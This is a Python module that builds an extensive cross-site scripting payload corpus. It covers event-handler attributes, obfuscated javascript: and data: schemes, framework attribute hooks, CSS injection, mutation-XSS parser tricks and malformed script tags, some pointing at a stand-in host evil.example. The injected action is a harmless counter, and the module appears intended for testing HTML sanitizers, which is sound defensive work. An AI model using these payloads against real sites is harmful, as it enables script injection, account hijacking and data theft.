"""Texts that would act if a page let them: families of wrappings around a few ways to run something."""

from collections.abc import Iterator

# ruff: noqa: E501 - payloads are not to be broken

RUN = "window.ran=(window.ran||0)+1"
EVENTS = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onbegin onend "
    "onpointerenter onwheel onscroll ontoggle onbeforetoggle onpageshow onhashchange onstart onfinish oncut onpaste "
    "ondrag oncopy onkeydown oninput onsubmit onauxclick oncontentvisibilityautostatechange onscrollsnapchange"
).split()
ELEMENTS = "img svg body video audio iframe input details marquee select object embed a p div table math".split()
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&#58;{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>", "blob:{}", "file:///{}", "feed:javascript:{}", "view-source:javascript:{}",
    "//evil.example/{}", "java\0script:{}", "\u2028javascript:{}", "jar:javascript:{}",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
    '<embed src="{}">', '<object data="{}"></object>', '<video poster="{}" src="{}"></video>', '<base href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<link rel=stylesheet href="{}">',
)  # fmt: skip
HOOKS = (
    "hx-get=/x hx-trigger=load", "data-hx-get=/x data-hx-trigger=load", 'hx-on:click="{}"', "hx-on--load='{}'",
    "hx-swap-oob=true id=main", "hx-vals='js:{{a:{}}}'", "_='on load {}'", "x-data x-init='{}'", "sse-connect=/x",
    "ws-connect=/x", "data-bs-toggle=modal", "data-portal-action=delete", "v-on:click='{}'", "@click='{}'",
    "name=documentElement", "id=toasts", "class='btn danger'", "formaction='javascript:{}'", "srcdoc='<script>{}'",
    "is=portal-combobox", "popovertarget=account", "style='position:fixed;inset:0'", "autofocus tabindex=1", "slot=x",
)  # fmt: skip
STYLES = (
    "background:url(javascript:{})", "background-image:url('javascript:{}')", "width:expression({})",
    "-moz-binding:url(x#y)", "behavior:url(x.htc)", "color:red;position:fixed;top:0", "list-style:url(javascript:{})",
    "@import 'x'", "color:url(javascript:{})", "background-color:url(//evil.example)", "width:calc(1px);z-index:9",
    "font-size:999px", "color:\\72 ed", "/**/position:/**/fixed", "content:url(x)", "color:var(--x)", "display:none",
)  # fmt: skip
MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<textarea><img title='</textarea><img src onerror={}>'></textarea>", "<title><img alt='</title><img src onerror={}>'>",
    "<!--><img src onerror={}>-->", "<!-- --!><img src onerror={}>", "<![CDATA[><img src onerror={}>]]>",
    "<xmp><p title='</xmp><img src onerror={}>'>", "<plaintext><img src onerror={}>", "<listing>&lt;img onerror={}&gt;</listing>",
    "<template><script>{}</script></template>", "<select><iframe></select><img src onerror={}>", "<svg><foreignObject><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{}>", "<math><annotation-xml encoding=text/html><img src onerror={}>",
    "<table><td><svg><desc><img src onerror={}>", "<p title='<hx-partial hx-target=body><script>{}</script>'>x",
    "<img alt='<hx-get x=\"<script>{}</script>'>", "<hx-partial hx-target=#main><img src onerror={}></hx-partial>",
    "<iframe><img src onerror={}></iframe>", "<noembed><img title='</noembed><img src onerror={}>'>", "<frameset onload={}>",
)  # fmt: skip
BROKEN = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script\t>",
    "<script/x>{}</script>", "<<script>{};//<</script>", "<script>{}", "</script><script>{}</script>", "\"><script>{}</script>",
    "'-{}-'", "<img src=x onerror={}", "<img/src/onerror={}>", "<img src=x\nonerror\n=\n'{}'>", "<img src=x onerror=\"{}\"\"\">",
    "<img src=`x`onerror={}>", "<img \"\"\"><script>{}</script>\">", "<a/href='javascript:{}'>x", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>", "<\x00script>{}</script>", "<img src=x o\x00nerror={}>", "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "<?xml-stylesheet href='javascript:{}'?>",
    "<portal-richtext onclick={}>x</portal-richtext>", "<button autofocus onfocus={}>x", "<keygen autofocus onfocus={}>", "<isindex action=javascript:{}>",
)  # fmt: skip


def families() -> dict[str, list[str]]:
    """Family -> its texts."""
    found = {
        f"event on {tag}": [f"<{tag} src=x {event}={RUN} autofocus>x</{tag}>" for event in EVENTS] for tag in ELEMENTS
    }
    for carrier in CARRIERS:
        tag = carrier[1:].split(" ")[0].partition(">")[0]
        found[f"scheme in {tag}"] = [carrier.replace("{}", scheme.replace("{}", RUN)) for scheme in SCHEMES]
    found["hooks"] = [f"<{tag} {_run(hook)}>x</{tag}>" for hook in HOOKS for tag in ("p", "a", "img")]
    found["styles"] = [f'<{tag} style="{_run(style)}">x</{tag}>' for style in STYLES for tag in ("p", "span", "td")]
    found["mutations"] = [_run(text) for text in MUTATIONS]
    found["mutations in lists"] = [f"<ul><li>{_run(text)}</li></ul>" for text in MUTATIONS]
    found["mutations in tables"] = [f"<table><tr><td>{_run(text)}</td></tr></table>" for text in MUTATIONS]
    found["broken"] = [_run(text) for text in BROKEN]
    found["broken in attributes"] = [f'<a title="{_run(text)}" href="/x">y</a>' for text in BROKEN]
    return found


def payloads() -> Iterator[str]:
    for texts in families().values():
        yield from texts


def _run(text: str) -> str:
    return text.replace("{}", RUN)
